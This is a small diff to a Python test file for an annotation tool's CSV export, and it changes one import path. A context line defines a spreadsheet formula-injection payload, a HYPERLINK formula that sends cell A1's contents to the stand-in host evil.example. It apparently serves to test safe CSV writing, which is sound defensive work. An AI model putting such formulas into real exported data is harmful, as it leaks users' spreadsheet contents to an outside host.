@@ -12,7 +12,7 @@ from annotation.formats.csv_safe import csv_cell, safe_csv_writer
 from annotation.models import Caption, Label, PooledPair, Report, Run
 from annotation.selectors.moments import infap_csv, moment_metrics_csv
 from annotation.services.exports import artefact_file, export_create
-from annotation.services.reports import report_create
+from annotation.services.reports.create import report_create
 from tests.factories import make_pool_with_runs, make_rater, make_user
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
